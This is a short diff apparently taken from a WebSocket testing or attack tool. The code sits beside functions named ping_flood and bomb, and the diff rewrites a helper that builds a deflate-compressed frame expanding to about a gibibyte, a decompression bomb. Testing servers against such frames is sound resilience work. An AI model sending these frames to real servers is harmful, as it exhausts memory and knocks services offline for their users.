@@ -187,9 +187,9 @@ async def ping_flood(peer: Peer) -> None:
 
 def _bomb() -> bytes:
     deflater = zlib.compressobj(9, zlib.DEFLATED, -15)
-    megabyte = b" " * 2**20
-    whole = b"".join(deflater.compress(megabyte) for _ in range(GIB // len(megabyte)))
-    return frame(whole + deflater.flush(zlib.Z_SYNC_FLUSH)[:-4], TEXT, reserved=4, mask=b"\0\0\0\0")
+    size = 2**24
+    block = deflater.compress(b" " * size) + deflater.flush(zlib.Z_FULL_FLUSH)  # needs nothing of what came before
+    return frame((block * (GIB // size))[:-4], TEXT, reserved=4, mask=b"\0\0\0\0")
 
 
 async def bomb(peer: Peer) -> None:
